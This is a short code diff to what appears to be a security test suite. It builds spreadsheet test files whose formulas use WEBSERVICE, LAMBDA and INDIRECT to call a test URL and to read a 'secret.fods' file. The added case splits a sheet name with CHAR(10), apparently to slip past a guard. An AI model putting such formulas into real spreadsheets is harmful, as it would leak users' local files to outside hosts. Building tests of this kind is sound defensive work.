@@ -73,11 +73,12 @@ def webservice_in_let_and_lambda(path, place):
           ("F", f'_xlfn.LAMBDA(_xlpm.x,_xlfn.WEBSERVICE("{place.url("lambda")}?"&_xlpm.x))')])
 
 
-@case("webservice-indirect.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3", "A5"),
+@case("webservice-indirect.xlsx", guard=ALLOWED, cells=("A1", "A2", "A3", "A5", "A6"),
       ask=('INDIRECT("W")', 'LEN(INDIRECT("W"))', 'INDIRECT("\'[secret.fods]Sheet1\'!A1")'))
 def webservice_in_a_text_of_indirect(path, place):
     save(path, {"A1": '=LEN(INDIRECT("W"))', "A2": '=INDIRECT(A3)', "A3": '="W"&""',
-                "A5": f"=INDIRECT(\"'{place.file('secret.fods')}'#$Sheet1.A1\")"},
+                "A5": f"=INDIRECT(\"'{place.file('secret.fods')}'#$Sheet1.A1\")",
+                "A6": f"=INDIRECT(\"'[{place.file('secret.fods')}]She\"&CHAR(10)&\"et1'!A1\")"},
          [("W", "_xlfn." + call(place, "indirect"))])
 
 
